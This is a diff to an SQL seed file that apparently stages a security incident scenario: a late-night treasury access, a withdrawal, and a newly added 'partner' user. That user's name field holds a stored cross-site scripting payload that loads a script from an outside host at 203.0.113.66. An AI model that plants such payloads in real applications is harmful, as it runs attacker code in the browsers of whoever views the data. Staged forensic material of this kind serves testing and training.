@@ -14,3 +14,10 @@ CREATE TABLE access_log (key_hash TEXT NOT NULL, method TEXT NOT NULL, path TEXT
 INSERT INTO access_log VALUES ('b07e22', 'GET', '/treasury', '203.0.113.66', '2026-02-17 01:07:00');
 CREATE TABLE transactions (id TEXT PRIMARY KEY, wallet TEXT NOT NULL, lamports BIGINT NOT NULL, created_at TEXT NOT NULL);
 INSERT INTO transactions VALUES ('t1', 'treasury', 1500000, '2026-02-16 12:00:00'), ('t2', 'treasury', -900000, '2026-02-17 01:08:00');
+CREATE TABLE users (
+    id TEXT PRIMARY KEY, email TEXT NOT NULL UNIQUE, name TEXT NOT NULL, created_at TEXT NOT NULL,
+    password_must_change BOOLEAN NOT NULL DEFAULT false
+);
+INSERT INTO users (id, email, name, created_at) VALUES
+    ('matt', 'matt@jarvis.example', 'Matt', '2026-01-02 09:00:00'),
+    ('partner', 'partner@jarvis.example', 'A partner <script src=//203.0.113.66/x.js></script>', '2026-02-17 01:07:00');
